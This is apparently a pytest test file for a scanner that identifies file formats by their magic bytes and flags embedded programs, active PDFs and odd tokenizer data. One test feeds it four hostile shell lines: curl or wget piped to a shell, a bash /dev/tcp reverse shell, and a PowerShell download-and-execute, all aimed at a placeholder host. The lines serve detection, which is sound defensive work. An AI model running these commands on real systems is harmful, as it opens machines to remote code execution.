"""Files that are told by a mark: pictures, sounds, tables, words of tokenizers; and programs."""

from __future__ import annotations

import io
import marshal
import struct
import sys
import wave
from pathlib import Path

import polars
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from bartizan.supply.scan.tensors import FORMATS, LAST, RULES
from tests.supply.scan.tensors.building import damaged, found, held, levels, looked, number


def picture(kind: str) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (9, 9), "red").save(file, kind)
    return file.getvalue()


def sound() -> bytes:
    file = io.BytesIO()
    with wave.open(file, "wb") as made:
        made.setparams((1, 2, 8000, 0, "NONE", ""))
        made.writeframes(bytes(99))
    return file.getvalue()


def table(kind: str) -> bytes:
    file = io.BytesIO()
    frame = polars.DataFrame({"a": [1, 2], "b": ["x", "y"]})
    if kind == "Parquet":
        frame.write_parquet(file)
    else:
        frame.write_ipc(file)
    return file.getvalue()


def piece(text: str, kind: int = 1) -> bytes:
    return held(1, held(1, text), b"\x15" + struct.pack("<f", -2.5), number(3, kind) if kind != 1 else b"")


TRAINED = held(2, held(1, "/data/corpus.txt"), held(2, "m"), number(3, 1), number(4, 32000), b"\x55\0\0\x80\x3f")
NORMAL = held(3, held(1, "nmt_nfkc"), held(2, bytes(range(256)) * 40), number(3, 1))
PIECES = piece("<unk>", 2) + piece("<s>", 3) + b"".join(piece(f"\u2581w{n}") for n in range(3_000)) + TRAINED + NORMAL
MP3 = b"\xff\xfb\x90\x00" + bytes(413)


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "TIFF", "WebP"])
def test_pictures_are_quiet(kind: str) -> None:
    assert looked(picture(kind)) == ((kind,), [])


def test_sounds_tables_and_words_are_quiet() -> None:
    assert looked(sound()) == (("WAV",), [])
    assert looked(b"RIFX" + struct.pack(">I", 4) + b"WAVE") == (("WAV",), [])
    assert looked(MP3 * 3) == (("MP3",), [])
    assert looked(b"fLaC" + bytes(60))[0] == ("FLAC",)
    assert looked(PIECES) == (("sentencepiece",), [])
    assert looked(b"CBM1" + (40).to_bytes(4, "little") + bytes(60)) == (("CatBoost",), [])


@pytest.mark.parametrize("kind", ["Parquet", "Arrow"])
def test_tables_are_quiet(kind: str) -> None:
    assert looked(table(kind)) == ((kind,), [])


@pytest.mark.parametrize("data", [picture("PNG"), sound()])
def test_what_lies_behind_a_picture_or_sound_is_looked_at(data: bytes) -> None:
    assert {"marked.behind", "marked.program"} <= set(found(data + b"\x7fELF" + bytes(60)))


@pytest.mark.parametrize(
    "data", [picture("PNG")[:-8], sound()[:-9], b"CBM1\xff\0\0\0", b"PAR1" + bytes(20), b"ARROW1\0\0" + bytes(20)]
)
def test_files_cut_off_are_an_error(data: bytes) -> None:
    assert "file.broken" in found(data)


def compiled() -> bytes:
    magic = {(3, 11): 3495, (3, 12): 3531, (3, 13): 3571, (3, 14): 3627}.get(sys.version_info[:2], 3495)
    return struct.pack("<H", magic) + b"\r\n" + bytes(12) + marshal.dumps(compile("x = 1", "m", "exec"))


PROGRAMS = {
    "ELF": Path(sys.executable).resolve().read_bytes()[:4096] if sys.platform == "linux" else b"\x7fELF" + bytes(60),
    "PE": b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(60),
    "Mach-O": b"\xcf\xfa\xed\xfe" + bytes(60),
    "Java class": b"\xca\xfe\xba\xbe\0\0\0\x41" + bytes(60),
    "Dalvik": b"dex\n035\0" + bytes(60),
    "compiled Python": compiled(),
    "WebAssembly": b"\0asm\x01\0\0\0",
    "LLVM bitcode": b"BC\xc0\xde" + bytes(60),
    "CUDA": b"\x50\xed\x55\xba" + bytes(60),
    "native archive": b"!<arch>\n" + bytes(60),
    "Windows link": b"L\0\0\0\x01\x14\x02\0" + bytes(60),
    "script": b"#!/bin/sh\necho x\n",
    "batch file": b"@echo off\r\necho x\r\n",
}


@pytest.mark.parametrize("kind", PROGRAMS)
def test_programs_are_found(kind: str) -> None:
    formats, findings = looked(PROGRAMS[kind])
    assert kind in formats
    assert "marked.program" in {one.rule.id for one in findings}


def test_a_universal_binary_of_macos_is_no_class_of_java() -> None:
    assert looked(b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(60))[0] == ("Mach-O",)


@pytest.mark.parametrize(
    "text",
    [
        "#!/bin/sh\ncurl http://h/x | sh\n",
        "#!/bin/bash\nbash -i >& /dev/tcp/h/4444 0>&1\n",
        "\ufeff#!/usr/bin/env bash\nwget -qO- http://h/x | bash\n",
        "@echo off\npowershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://h/x')\"\n",
    ],
)
def test_scripts_that_open_the_machine_are_dangerous(text: str) -> None:
    assert "detect" in levels(text.encode())


@pytest.mark.parametrize("word", ["/JavaScript", "/Launch", "/J#61vaScript", "/OpenAction"])
def test_documents_that_do_something_are_for_a_person_to_look_at(word: str) -> None:
    assert "marked.active-document" in found(b"%PDF-1.7\n" + bytes(1 << 20) + word.encode() + b" (x)\n%%EOF")
    assert found(b"%PDF-1.7\n1 0 obj <</JSX 1>>\n%%EOF") == []


def test_words_of_tokenizers_with_more_in_them_are_for_a_person_to_look_at() -> None:
    assert "marked.not-looked-into" in found(PIECES + held(77, "payload"))
    assert "marked.not-looked-into" in found(PIECES + held(1, held(1, "x"), b"\x15\0\0\0\0", held(9, "payload")))
    assert "marked.not-looked-into" in found(PIECES + held(2, held(1, b"\x80\x04\x95")))


def test_formats_that_nobody_looks_into_say_so() -> None:
    assert found(b"\x08\0\0\0ORTM" + bytes(60)) == ["marked.not-looked-into"]
    assert found(b"ML\xefR\x01" + b"stablehlo.custom_call" + bytes(60)) == ["marked.custom-operator"]


SEEDS = [picture("PNG"), sound(), PIECES[:400], MP3 * 3, b"%PDF-1.7 /JS x", *PROGRAMS.values()]


@settings(max_examples=200, deadline=None)
@given(st.data(), st.sampled_from(SEEDS))
def test_changed_files_never_fail(data: st.DataObject, seed: bytes) -> None:
    assert "scanner.failed" not in found(damaged(data, seed))


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=99), st.sampled_from([seed[:12] for seed in SEEDS]))
def test_random_bytes_behind_a_mark_never_fail(data: bytes, mark: bytes) -> None:
    assert "scanner.failed" not in found(mark + data)


def test_names_of_formats_and_rules_differ() -> None:
    names, ids = [one.name for one in (*FORMATS, *LAST)], [one.id for one in RULES]
    assert len(set(names)) == len(names)
    assert len(set(ids)) == len(ids)
